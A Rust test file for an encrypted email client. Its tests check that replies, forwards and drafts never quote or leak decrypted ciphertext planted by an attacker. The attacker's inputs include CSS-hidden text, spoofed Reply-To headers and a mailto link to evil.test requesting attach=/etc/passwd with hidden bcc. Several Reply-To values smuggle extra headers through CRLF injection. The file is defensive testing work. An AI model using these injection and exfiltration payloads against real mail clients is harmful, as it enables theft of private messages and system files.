//! Alice's ciphertext in a message that invites an answer: replies, forwards, drafts, links.

use super::world::{ALICE, BOB, MALLORY, SECRET, WORLD, cautioned, html, mail, multipart, quoted, shown, text};
use kakitome::domain::Mailbox;
use kakitome::flow::{CautionCode, Lock, reply};

/// Mallory forwards alice's ciphertext as a message within hers, so that the answer quotes it.
#[test]
fn a_ciphertext_in_a_message_passed_on_stays_closed() {
    for cipher in [WORLD.pgp_encrypted(&text(SECRET), Some(BOB)), WORLD.smime_encrypted(&text(SECRET), true)] {
        let mut within = b"Content-Type: message/rfc822\r\n\r\n".to_vec();
        within.extend(mail(BOB, &cipher));
        for entity in [
            within.clone(),
            multipart("mixed", &[&text("Lunch?"), &within]),
            multipart("digest", &[&within]),
            WORLD.pgp_encrypted(&multipart("mixed", &[&text("Lunch?"), &within]), Some(MALLORY)),
        ] {
            let found = WORLD.assess(mail(MALLORY, &entity));
            assert!(!shown(&found).contains(SECRET) && !quoted(&found).contains(SECRET), "{}", quoted(&found));
            assert!(found.parts.iter().all(|part| !String::from_utf8_lossy(&part.content).contains(SECRET)));
        }
    }
}

/// Mallory wraps alice's ciphertext in a part of every kind beside an innocent question.
#[test]
fn an_answer_never_quotes_what_was_decrypted_beside_a_question() {
    for cipher in [
        WORLD.pgp_encrypted(&text(SECRET), Some(BOB)),
        WORLD.smime_encrypted(&html(SECRET), true),
        WORLD.smime_encrypted(&text(SECRET), false),
    ] {
        for kind in [
            "mixed",
            "related",
            "alternative",
            "report",
            "parallel",
            "x-y",
            "mixed; hp=\"cipher\"",
            "signed",
            "encrypted",
        ] {
            for parts in [
                [text("Lunch?"), cipher.clone()],
                [cipher.clone(), text("Lunch?")],
                [html("Lunch?<div style=\"display:none\">"), cipher.clone()],
            ] {
                let parts: Vec<&[u8]> = parts.iter().map(Vec::as_slice).collect();
                for entity in [multipart(kind, &parts), WORLD.smime_signed(MALLORY, &multipart(kind, &parts))] {
                    let found = WORLD.assess(mail(MALLORY, &entity));
                    assert!(!quoted(&found).contains(SECRET), "{kind}: {}", quoted(&found));
                    assert!(found.headline.lock != Lock::Encrypted, "{kind}");
                }
            }
        }
    }
}

/// Mallory hides alice's old ciphertext, which tells nobody whether it was altered, behind a page
/// of hers: what is not seen must not be quoted.
#[test]
fn text_that_a_style_hides_is_not_quoted_where_it_may_have_been_put_there() {
    let pages = [
        format!("<style>.x{{display:none}}</style><p>Lunch?</p><p class=x>{SECRET}</p>"),
        format!("<p>Lunch?</p><p style=\"font-size:0\">{SECRET}</p>"),
        format!("<p>Lunch?</p><p style=\"position:absolute;left:-9999px\">{SECRET}</p>"),
        format!("<p>Lunch?</p><p style=\"color:white\">{SECRET}</p>"),
    ];
    for page in pages {
        for entity in [
            html(&page),
            multipart("alternative", &[&text(SECRET), &html("Lunch?")]),
            multipart("mixed", &[&html(&page), &text("x")]),
        ] {
            let found = WORLD.assess(mail(MALLORY, &WORLD.smime_encrypted(&entity, false)));
            assert!(cautioned(&found, CautionCode::NoIntegrity));
            assert!(!quoted(&found).contains(SECRET), "{}", quoted(&found));
        }
    }
    // A text alone is seen whole, and an answer may quote it.
    let found = WORLD.assess(mail(BOB, &WORLD.smime_encrypted(&text(SECRET), false)));
    assert!(quoted(&found).contains(SECRET));
}

/// Mallory writes links and addresses that would fill a draft: files, a body, hidden recipients.
#[test]
fn a_draft_takes_nothing_from_a_message_but_whom_it_is_from_and_its_words() {
    let page = "<a href=\"mailto:mallory@evil.test?attach=/etc/passwd&attachment=%2Fetc%2Fpasswd&bcc=x@evil.test&body=hi&In-Reply-To=%3C1%40x%3E\">write</a>";
    for reply_to in [
        "mallory@evil.test?attach=/etc/passwd",
        "<mailto:mallory@evil.test?bcc=x@evil.test&attach=/etc/passwd>",
        "mallory@evil.test\r\nBcc: x@evil.test",
        "mallory@evil.test\r\nX-Attach: /etc/passwd\r\nAttachment: /etc/passwd",
        "mallory@evil.test, \"a\\\r\n Bcc: x\" <y@evil.test>",
    ] {
        let mut raw = format!("Reply-To: {reply_to}\r\n").into_bytes();
        raw.extend(mail(MALLORY, &WORLD.pgp_encrypted(&html(page), Some(MALLORY))));
        let found = WORLD.assess(raw);
        for answer in [reply::Answer::Reply, reply::Answer::ReplyAll, reply::Answer::Forward] {
            let draft = reply::draft(&found, &Mailbox::new("", ALICE), answer);
            assert!(draft.attachments.is_empty() && draft.bcc.is_empty() && draft.html.is_none(), "{reply_to}");
            let named = draft.to.iter().chain(&draft.cc);
            assert!(
                named.into_iter().all(|one| !one.address.contains(['\r', '\n', ' ', ','])),
                "{reply_to}: {:?} {:?}",
                draft.to,
                draft.cc
            );
            assert!(draft.protection.encrypt, "an answer to what was encrypted is to be encrypted");
        }
    }
}

/// Mallory sends alice's ciphertext "from bob", with an answer's way to herself.
#[test]
fn where_an_answer_would_go_is_told_before_it_goes_there() {
    let mut raw = format!("Reply-To: Bob Baker <{MALLORY}>\r\n").into_bytes();
    raw.extend(mail("bob@other.test", &WORLD.pgp_encrypted(&text(SECRET), None)));
    let found = WORLD.assess(raw);
    assert!(cautioned(&found, CautionCode::ReplyToElsewhere));
    let draft = reply::draft(&found, &Mailbox::new("", ALICE), reply::Answer::Reply);
    assert_eq!(draft.to[0].address, MALLORY, "the draft shows the address that it goes to");
}

#[test]
fn what_was_decrypted_alone_is_not_quoted_even_inside_another_encryption() {
    for cipher in [WORLD.pgp_encrypted(&text(SECRET), None), WORLD.smime_encrypted(&text(SECRET), false)] {
        let mixed = multipart("mixed", &[&text("What is for lunch?"), &cipher]);
        for outer in [
            WORLD.pgp_encrypted(&mixed, Some(MALLORY)),
            WORLD.smime_encrypted(&mixed, true),
            WORLD.pgp_signed(MALLORY, &mixed),
            WORLD.pgp_signed(MALLORY, &multipart("mixed", &[&multipart("mixed", &[&cipher])])),
        ] {
            let found = WORLD.assess(mail(MALLORY, &outer));
            assert!(!quoted(&found).contains(SECRET), "{}", quoted(&found));
        }
    }
}

#[test]
fn an_inline_object_within_a_text_is_not_quoted_and_does_not_lock_the_message() {
    let object = String::from_utf8(WORLD.pgp_object(SECRET.as_bytes(), None, &[ALICE])).expect("armor");
    let object = object.replace('\n', "\r\n");
    let found = WORLD.assess(mail(MALLORY, &text(&format!("What is for lunch?\r\n{}{object}", "\r\n".repeat(100)))));
    assert_eq!(found.headline.lock, Lock::NotEncrypted);
    assert!(!quoted(&found).contains(SECRET));
    let alternative = multipart("alternative", &[&text(&object), &html("<p>What is for lunch?</p>")]);
    let found = WORLD.assess(mail(MALLORY, &alternative));
    assert_eq!(found.headline.lock, Lock::NotEncrypted);
    assert!(!quoted(&found).contains(SECRET) && !shown(&found).contains(SECRET));
}

#[test]
fn an_answer_to_anything_that_was_encrypted_is_to_be_encrypted() {
    for entity in [
        WORLD.pgp_encrypted(&text(SECRET), Some(BOB)),
        multipart("mixed", &[&text("x"), &WORLD.smime_encrypted(&text(SECRET), true)]),
    ] {
        let found = WORLD.assess(mail(BOB, &entity));
        assert!(reply::draft(&found, &Mailbox::new("", ALICE), reply::Answer::Reply).protection.encrypt);
    }
}

/// Mallory has an address at bob's own provider, and sends what bob encrypted or sealed "from bob",
/// with the answers to herself.
#[test]
fn answers_to_another_at_the_same_domain_are_told_where_they_would_give_something_away() {
    let reply_to =
        |entity: &[u8]| WORLD.assess([format!("Reply-To: {MALLORY}\r\n").as_bytes(), &mail(BOB, entity)].concat());
    for entity in [
        WORLD.pgp_encrypted(&text(SECRET), Some(BOB)),
        WORLD.smime_encrypted(&text(SECRET), false),
        WORLD.smime_signed(BOB, &text("hello")),
        multipart("mixed", &[&text("x"), &WORLD.pgp_encrypted(&text(SECRET), None)]),
    ] {
        assert!(cautioned(&reply_to(&entity), CautionCode::ReplyToElsewhere));
    }
    assert!(!cautioned(&reply_to(&text("hello")), CautionCode::ReplyToElsewhere));
}

/// Mallory, at bob's own provider, protects the header of what she writes in his name: nobody vouches for that.
#[test]
fn a_protected_header_that_nobody_vouches_for_does_not_hide_where_answers_go() {
    let inner = |hp: &str| {
        format!(
            "From: {BOB}\r\nReply-To: {MALLORY}\r\nTo: {ALICE}\r\nSubject: x\r\nHP-Outer: From: {BOB}\r\n\
             Content-Type: text/plain; hp=\"{hp}\"\r\n\r\nsend me the code\r\n"
        )
    };
    let (cipher, clear) = (inner("cipher"), inner("clear"));
    for entity in [
        WORLD.pgp_encrypted(cipher.as_bytes(), None),
        WORLD.pgp_encrypted(cipher.as_bytes(), Some(MALLORY)),
        WORLD.smime_encrypted(cipher.as_bytes(), true),
        WORLD.pgp_signed(MALLORY, clear.as_bytes()),
    ] {
        let found = WORLD.assess(mail(BOB, &entity));
        assert!(cautioned(&found, CautionCode::ReplyToElsewhere), "{:?} {:?}", found.headline, found.cautions);
    }
    // Bob may wish for it himself.
    for entity in [WORLD.pgp_encrypted(cipher.as_bytes(), Some(BOB)), WORLD.smime_signed(BOB, clear.as_bytes())] {
        let found = WORLD.assess(mail(BOB, &entity));
        assert!(!cautioned(&found, CautionCode::ReplyToElsewhere), "{:?} {:?}", found.headline, found.cautions);
    }
}

/// The older form protects what is in it, and the Reply-To outside is anybody's.
#[test]
fn an_older_protected_header_without_a_reply_to_does_not_vouch_for_the_outer_one() {
    let inner = format!(
        "From: {BOB}\r\nTo: {ALICE}\r\nSubject: x\r\nContent-Type: text/plain; protected-headers=\"v1\"\r\n\r\nhello\r\n"
    );
    for entity in [
        WORLD.pgp_encrypted(inner.as_bytes(), Some(BOB)),
        WORLD.smime_encrypted(&WORLD.smime_signed(BOB, inner.as_bytes()), true),
    ] {
        let found = WORLD.assess([format!("Reply-To: {MALLORY}\r\n").as_bytes(), &mail(BOB, &entity)].concat());
        assert_eq!(found.reply_to[0].address, MALLORY);
        assert!(cautioned(&found, CautionCode::ReplyToElsewhere), "{:?}", found.cautions);
    }
}
